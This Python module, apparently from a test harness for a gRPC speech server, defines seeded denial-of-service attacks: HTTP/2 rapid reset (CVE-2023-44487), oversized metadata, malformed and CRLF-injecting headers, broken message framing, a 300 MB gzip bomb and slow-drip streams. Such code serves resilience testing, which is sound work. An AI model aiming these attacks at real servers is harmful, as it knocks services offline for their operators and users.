"""Attacks on calls: their headers, and gRPC's framing of messages; generated from a seed.

Each takes a target HOST:PORT and a deadline in seconds for the server's answer.
"""

from __future__ import annotations

import asyncio
import gzip
from functools import cache
from random import Random

from hyperframe.frame import (
    ContinuationFrame,
    HeadersFrame,
)
from siren.v1 import speech_pb2 as pb

from siren_grpc.abuse.bad_calls import LIST, RECOGNIZE, STREAM, config
from siren_grpc.abuse.http2 import MOST_PAYLOAD, Http2, message
from siren_grpc.abuse.outcome import Kind, Outcome

_BOMB_BYTES = 300 << 20
_LEFT = Outcome(Kind.LEFT)
_CONFIG = message(config().SerializeToString())


async def rapid_reset(target: str, random: Random, deadline_s: float) -> Outcome:
    """Begin calls and cancel each at once (CVE-2023-44487)."""
    async with await Http2.connect(target) as connection:
        for _ in range(random.choice((10, 100, 300))):
            stream = connection.begin(random.choice((STREAM, LIST)))
            if random.random() < 0.3:
                connection.data(stream, _CONFIG)
            connection.reset(stream, random.choice((0, 2, 8)))
        return await connection.is_served(deadline_s=deadline_s)


async def huge_metadata(target: str, random: Random, deadline_s: float) -> Outcome:
    """Send more metadata than anybody means."""
    count, size = random.choice(((1, 15_000), (1500, 20), (300, 40)))
    headers = [(f"x-{i}", "a" * size) for i in range(count)]
    async with await Http2.connect(target) as connection:
        first = connection.encode([(":method", "POST"), (":scheme", "http"), (":path", LIST)])
        block = first + connection.encode(
            [("te", "trailers"), ("content-type", "application/grpc"), *headers]
        )
        if random.random() < 0.3:
            block += connection.encode([("y", "b" * 100_000)])
        parts = [block[i : i + MOST_PAYLOAD] for i in range(0, len(block), MOST_PAYLOAD)]
        frame = HeadersFrame(1, data=parts[0])
        frame.flags.add("END_STREAM")
        if len(parts) == 1:
            frame.flags.add("END_HEADERS")
        connection.frame(frame)
        for i, part in enumerate(parts[1:], 2):
            more = ContinuationFrame(1, data=part)
            if i == len(parts):
                more.flags.add("END_HEADERS")
            connection.frame(more)
        return await connection.ends(1, deadline_s=deadline_s)


async def odd_headers(target: str, random: Random, deadline_s: float) -> Outcome:
    """Begin a call as no client of gRPC would."""
    headers: list[tuple[str, str]] = []
    http_method, content_type, path = "POST", "application/grpc", LIST
    kind = random.choice(("type", "no type", "method", "timeout", "encoding", "header", "pseudo"))
    if kind == "type":
        content_type = random.choice(("text/plain", "application/json", "application/grpc-web", ""))
    elif kind == "method":
        http_method = random.choice(("GET", "PUT", "OPTIONS", "X", ""))
    elif kind == "timeout":
        late = random.choice(("", "-1S", "99999999999S", "1", "nS", "0n", "1x"))
        headers = [("grpc-timeout", late)]
    elif kind == "encoding":
        headers = [("grpc-encoding", random.choice(("br", "gzip,gzip", "", "identity")))]
    elif kind == "header":
        name = random.choice(("UPPER", "connection", "a b", "x\0y", "", "grpc-status"))
        headers = [(name, random.choice(("1", "\r\nx: y", "\0", "\xff")))]
    elif kind == "pseudo":
        headers = [(random.choice((":path", ":status", ":odd", ":method")), "/x")]
    is_bare = kind == "no type"
    async with await Http2.connect(target) as connection:
        stream = connection.begin(
            path,
            headers=headers,
            http_method=http_method,
            content_type=None if is_bare else content_type,
        )
        connection.data(stream, message(b""), ends=True)
        return await connection.ends(stream, deadline_s=deadline_s)


async def bad_framing(target: str, random: Random, deadline_s: float) -> Outcome:
    """Break the framing of gRPC's messages."""
    body = config(sample_rate_hertz=8000).SerializeToString()
    framed = random.choice(
        (
            message(body, length=len(body) + 5),
            message(body, length=2**32 - 1),
            message(body, flag=1),
            message(body, flag=random.randrange(2, 256)),
            message(body)[: random.randrange(1, 5)],
            message(body) + b"\0\0",
            random.randbytes(30),
        )
    )
    async with await Http2.connect(target) as connection:
        stream = connection.begin(random.choice((STREAM, RECOGNIZE, LIST)))
        connection.data(stream, framed, ends=True)
        return await connection.ends(stream, deadline_s=deadline_s)


@cache
def _bomb(size: int) -> bytes:
    return gzip.compress(bytes(size), 9)


async def gzip_bomb(target: str, random: Random, deadline_s: float) -> Outcome:
    """Send a small message that grows past every limit, or one that does not unpack."""
    packed = random.choices(
        (_bomb(_BOMB_BYTES), _bomb(1 << 20), b"\x1f\x8b" + random.randbytes(50), b""), (1, 4, 9, 9)
    )[0]
    headers = [("grpc-encoding", random.choice(("gzip", "gzip", "gzip", "deflate")))]
    async with await Http2.connect(target) as connection:
        stream = connection.begin(random.choice((RECOGNIZE, LIST)), headers=headers)
        connection.data(stream, message(packed, flag=1), ends=True)
        return await connection.ends(stream, deadline_s=deadline_s)


async def dribble(target: str, random: Random, deadline_s: float) -> Outcome:
    """Send a good call byte by byte, and vanish somewhere in it."""
    async with await Http2.connect(target) as connection:
        stream = connection.begin(STREAM)
        audio = pb.StreamingRecognizeRequest(audio=pb.AudioChunk(data=bytes(20), seq=1))
        whole = _CONFIG + message(audio.SerializeToString())
        cut = random.randrange(1, len(whole) + 1)
        for i in range(cut):
            connection.data(stream, whole[i : i + 1])
            if i % 7 == 0:
                await asyncio.sleep(random.random() / 500)
        if random.random() < 0.5:
            return _LEFT
        connection.data(stream, b"", ends=True)
        return await connection.ends(stream, deadline_s=deadline_s)
